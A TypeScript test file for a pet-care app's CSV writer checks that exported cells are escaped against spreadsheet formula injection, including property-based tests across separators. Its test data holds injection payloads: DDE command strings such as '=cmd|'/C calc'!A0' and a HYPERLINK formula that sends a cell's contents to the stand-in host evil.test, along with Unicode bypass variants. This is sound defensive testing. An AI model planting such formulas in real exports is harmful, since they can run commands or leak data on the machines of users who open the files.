import type { CsvValue } from '@petcare/contracts/shared/lists.ts';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readCsv } from '../testing/files/read-csv.ts';
import { writeCsv } from './write-csv.ts';

async function* rowsOf<Row>(...batches: Row[][]) {
  yield* batches;
}

async function fileOf(rows: CsvValue[][]): Promise<string> {
  const columns = (rows[0] ?? []).map((_, index) => ({
    key: `${index}`,
    heading: `${index}`,
    cell: (row: CsvValue[]) => row[index],
  }));
  const pieces: string[] = [];
  for await (const piece of writeCsv(columns, rowsOf(rows))) pieces.push(piece);
  return pieces.join('');
}

async function cellsOf(values: readonly CsvValue[]): Promise<(string | undefined)[]> {
  return readCsv(await fileOf(values.map((value) => [value])))
    .slice(1)
    .map(([cell]) => cell);
}

const formulas = [
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)',
  '+1',
  '-1',
  '-2+3+cmd|calc',
  '=HYPERLINK("http://evil.test?x="&A1,"see")',
  '  =1+1',
  '\u{200b}=1+1',
  '\u{feff}@SUM(1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

test.each(formulas)('a spreadsheet does not read %j as a formula', async (formula) => {
  expect(await cellsOf([formula])).toEqual([`'${formula}`]);
});

test.each([
  ['\t=1+1', "'\t'=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "'\n'=1+1"],
  ['"=1+1', `'"=1+1`],
  ['Tuni;=1+1', "Tuni;'=1+1"],
  ['Tuni; "@SUM(1)', `Tuni; "'@SUM(1)`],
  ['Tuni\t-1', "Tuni\t'-1"],
  ['Tuni\r\n+1', "Tuni\r\n'+1"],
  ['Tuni|\u{200b}=1', "Tuni|\u{200b}'=1"],
  ['a;b\tc\nd - e', 'a;b\tc\nd - e'],
])('%j is written as %j', async (text, written) => {
  expect(await cellsOf([text])).toEqual([written]);
});

test('a spreadsheet set to any separator finds no formula', async () => {
  const character = fc.constantFrom(...';\t|\n\r"=+-@＝,a \u{200b}');
  const cell = fc.string({ unit: character, maxLength: 8 });
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 3 }), async (rows) => {
      const file = await fileOf(rows);
      const found = [
        ...readCsv(file).flat(),
        // A separator that the file does not use: quotes inside a field have no effect there.
        ...[';', '\t', '|'].flatMap((separator) =>
          file.split(/[\r\n]/).flatMap((row) => row.split(separator)),
        ),
      ];
      expect(found.filter((field) => /^["\s\p{C}]*[=+\-@＝]/u.test(field ?? ''))).toEqual([]);
    }),
  );
});

test('unescaped text is read as a formula by a spreadsheet', () => {
  const naive = `\u{feff}cell\r\n${formulas[0]}\r\n`;
  expect(readCsv(naive)[1]?.[0]).toMatch(/^=/);
});

test('negative numbers stay numbers, a phone number stays readable, and other text is unchanged', async () => {
  expect(await cellsOf([-5, -0.5, '+8801712345678', '01712345678', 'a=b', "it's", '2 × Ball'])).toEqual([
    '-5',
    '-0.5',
    "'+8801712345678",
    '01712345678',
    'a=b',
    "it's",
    '2 × Ball',
  ]);
});

test('commas, quotes, line breaks and Bangla are preserved', async () => {
  const texts = ['Tuni, our cat', 'the "queen"', 'one\ntwo', 'one\rtwo', 'one\r\ntwo', 'বিড়ালছানা', ''];
  expect(await cellsOf(texts)).toEqual(texts);
});

test('instants are ISO 8601, null is blank, booleans are words', async () => {
  expect(await cellsOf([new Date(0), null, undefined, true, false])).toEqual([
    '1970-01-01T00:00:00.000Z',
    '',
    '',
    'true',
    'false',
  ]);
});

test('an empty list is a file of headings', async () => {
  const column = { key: 'name', heading: 'নাম', cell: () => '' };
  const pieces: string[] = [];
  for await (const piece of writeCsv([column], rowsOf())) pieces.push(piece);
  expect(pieces.join('')).toBe('\u{feff}নাম\r\n');
});
